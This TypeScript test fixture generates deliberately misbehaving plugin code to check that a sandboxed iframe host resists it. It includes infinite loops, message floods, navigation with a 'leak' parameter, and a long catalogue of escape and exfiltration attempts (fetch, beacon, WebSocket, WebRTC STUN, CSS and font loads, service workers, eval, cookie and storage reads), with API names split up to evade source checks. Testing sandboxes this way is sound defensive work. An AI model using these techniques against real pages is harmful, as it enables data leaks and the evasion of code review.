/**
 * Plugins that misbehave, as source text. They build names from pieces, as an attacker would, so that the
 * checks on the source cannot be what stops them: the tests are about what the frame itself withstands.
 */

const view = (body: string, before = ''): string => `
import { definePlugin, host } from '@msdat/sdk'
import { useEffect, useState } from 'react'

const realm = globalThis as unknown as Record<string, any>
const reach = (...parts: string[]): any => realm[parts.join('')]
${before}

function View() {
  const [text, setText] = useState('running')
  useEffect(() => {
    ${body}
  }, [])
  return <p id="said">{text}</p>
}

definePlugin({ contributions: { panel: { view: View } } })
`

/** Misbehaves after half a second, so that the frame is live first. */
export const loopsForever = view(`setTimeout(() => { for (;;) { /* never ends */ } }, 500)`)

export const throwsWhileLoading = `throw new Error('broken on purpose')\n`

export const neverAnswers = `await new Promise(() => {})\n`

export const asksWithoutPermission = view(`
    host.call(['page', 'setAppearance'].join('.') as 'page.setAppearance', { fontLevel: 5 }).then((reply) => setText(JSON.stringify(reply)))`)

export const navigatesAway = (address: string): string =>
  view(`setTimeout(() => { reach('loc', 'ation').href = ${JSON.stringify(address)} + '?leak=secret' }, 500)`)

export const floods = view(`
    setTimeout(() => {
      for (let count = 0; count < 100_000; count += 1) {
        reach('par', 'ent').postMessage({ count }, '*')
        void host.call('ui.resize', { height: 100 + (count % 50) })
      }
    }, 500)`)

/** Few messages, but each so large, or so wrong, that the page could spend seconds on it. */
export const overwhelms = view(`
    setTimeout(() => {
      const many = Array.from({ length: 300_000 }, (_, at) => ({ at }))
      for (let count = 0; count < 50; count += 1) void host.call('ui.announce', { message: 'many', many } as any)
    }, 500)`)

/** Addresses on this machine that listen, and must never be reached. */
export interface Listeners {
  http: string
  webSocket: string
  stun: string
}

/** Tries every way out of a frame that is known to us; writes what each said into #said as JSON. */
export const triesToEscape = ({ http, webSocket, stun }: Listeners): string =>
  view(
    `
    void attemptAll().then((outcomes) => setText(JSON.stringify(outcomes)))`,
    `
const http = ${JSON.stringify(http)}
const webSocket = ${JSON.stringify(webSocket)}
const stun = ${JSON.stringify(stun)}

const element = (tag: string, set: Record<string, string>): HTMLElement => {
  const made = document.createElement(tag)
  for (const [name, value] of Object.entries(set)) made.setAttribute(name, value)
  document.body.append(made)
  return made
}

const attempts: Record<string, () => unknown> = {
  parentDocument: () => reach('par', 'ent')['docu' + 'ment'].title,
  topDocument: () => reach('t', 'op')['docu' + 'ment'].title,
  frameElement: () => String(reach('frame', 'Element') ?? raise('none')),
  cookieRead: () => document['coo' + 'kie' as 'title'] || raise('empty'),
  cookieWrite: () => {
    ;(document as any)['coo' + 'kie'] = 'a=b'
    return (document as any)['coo' + 'kie'] || raise('empty')
  },
  localStorage: () => reach('local', 'Storage').length,
  sessionStorage: () => reach('session', 'Storage').length,
  indexedDb: () =>
    new Promise((resolve, reject) => {
      const request = reach('indexed', 'DB').open('x')
      request.onsuccess = () => resolve('opened')
      request.onerror = () => reject(request.error)
    }),
  cacheStorage: () => reach('cac', 'hes').open('x'),
  fetch: () => reach('fet', 'ch')(http + '/fetch', { mode: 'no-cors' }),
  xhr: () =>
    new Promise((resolve, reject) => {
      const request = new (reach('XML', 'HttpRequest'))()
      request.open('GET', http + '/xhr')
      request.onload = () => resolve('loaded')
      request.onerror = () => reject(new Error('blocked'))
      request.send()
    }),
  beacon: () => (reach('navi', 'gator')['send' + 'Beacon'](http + '/beacon', 'leak') ? 'queued' : raise('refused')),
  image: () => loads(element('img', { src: http + '/image' })),
  audio: () => loads(element('audio', { src: http + '/audio' })),
  video: () => loads(element('video', { src: http + '/video', poster: http + '/poster' })),
  script: () => {
    const made = document.createElement('script')
    made.src = http + '/script'
    document.body.append(made)
    return loads(made)
  },
  moduleImport: () => import(/* @vite-ignore */ [http, '/module'].join('')),
  stylesheet: () => loads(element('link', { rel: 'style' + 'sheet', href: http + '/stylesheet' })),
  cssBackground: () => {
    element('div', { style: 'width:9px;height:9px;background:url(' + http + '/background)' })
    return 'styled'
  },
  cssImport: () => {
    element('style', {}).textContent = '@import "' + http + '/import";'
    return 'styled'
  },
  font: () => {
    element('style', {}).textContent = '@font-face{font-family:leak;src:url(' + http + '/font)}'
    element('p', { style: 'font-family:leak' }).textContent = 'leak'
    return 'styled'
  },
  object: () => loads(element('object', { data: http + '/object' })),
  embed: () => loads(element('embed', { src: http + '/embed' })),
  webSocket: () =>
    new Promise((resolve, reject) => {
      const socket = new (reach('Web', 'Socket'))(webSocket)
      socket.onopen = () => resolve('opened')
      socket.onerror = () => reject(new Error('blocked'))
    }),
  eventSource: () =>
    new Promise((resolve, reject) => {
      const source = new (reach('Event', 'Source'))(http + '/events')
      source.onopen = () => resolve('opened')
      source.onerror = () => reject(new Error('blocked'))
    }),
  webTransport: () => new (reach('Web', 'Transport'))(http.replace('http:', 'https:')).ready,
  webRtc: () => gather(reach('RTC', 'PeerConnection') ?? reach('webkit', 'RTC', 'PeerConnection')),
  webRtcInNestedFrame: () => {
    const frame = element('iframe', { srcdoc: '<p>nested</p>' }) as HTMLIFrameElement
    return gather((frame.contentWindow as any)['RTC' + 'PeerConnection'])
  },
  popup: () => reach('op', 'en')(http + '/popup') ?? raise('blocked'),
  topNavigation: () => {
    reach('t', 'op')['loc' + 'ation'] = http + '/top'
    return 'assigned'
  },
  form: () => {
    const form = element('form', { action: http + '/form', method: 'post' }) as HTMLFormElement
    form.submit()
    return 'submitted'
  },
  nestedFrame: () => loads(element('iframe', { src: http + '/nested' })),
  workerWithNetwork: () =>
    new Promise((resolve, reject) => {
      const code = 'fetch("' + http + '/worker",{mode:"no-cors"}).then(()=>postMessage("fetched"),()=>postMessage("blocked"))'
      const worker = new (reach('Wor', 'ker'))(URL.createObjectURL(new Blob([code])))
      worker.onmessage = (event: MessageEvent) => (event.data === 'fetched' ? resolve('fetched') : reject(new Error('blocked')))
      worker.onerror = () => reject(new Error('no worker'))
    }),
  serviceWorker: () => reach('navi', 'gator')['service' + 'Worker'].register(http + '/sw.js'),
  dnsPrefetch: () => (element('link', { rel: 'dns-' + 'prefetch', href: http }), 'added'),
  preconnect: () => (element('link', { rel: 'pre' + 'connect', href: http }), 'added'),
  prefetch: () => loads(element('link', { rel: 'pre' + 'fetch', href: http + '/prefetch' })),
  preload: () => loads(element('link', { rel: 'pre' + 'load', as: 'image', href: http + '/preload' })),
  linkPing: () => {
    const link = element('a', { href: '#', ping: http + '/ping' }) as HTMLAnchorElement
    link.click()
    return 'clicked'
  },
  evaluate: () => reach('ev', 'al')('1 + 1'),
  functionConstructor: () => new (reach('Func', 'tion'))('return 1')(),
  nonceOfScript: () =>
    [...document.querySelectorAll('script')].map((made) => made.nonce).filter(Boolean)[0] ?? raise('none'),
}

function raise(message: string): never {
  throw new Error(message)
}

function loads(made: HTMLElement): Promise<string> {
  return new Promise((resolve, reject) => {
    made.onload = () => resolve('loaded')
    made.onerror = () => reject(new Error('blocked'))
    setTimeout(() => reject(new Error('nothing happened')), 700)
  })
}

async function gather(Connection: any): Promise<string> {
  if (!Connection) throw new Error('no constructor')
  const connection = new Connection({ iceServers: [{ urls: 'stun:' + stun }] })
  connection.createDataChannel('leak')
  await connection.setLocalDescription(await connection.createOffer())
  await new Promise((resolve) => setTimeout(resolve, 500))
  return 'gathered'
}

async function attemptAll(): Promise<Record<string, string>> {
  const outcomes: Record<string, string> = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error('nothing happened')), 1_500))
      outcomes[name] = 'REACHED ' + String(await Promise.race([Promise.resolve().then(attempt), late]))
    } catch (error) {
      outcomes[name] = 'refused: ' + (error as Error).message
    }
  }
  return outcomes
}
`,
  )
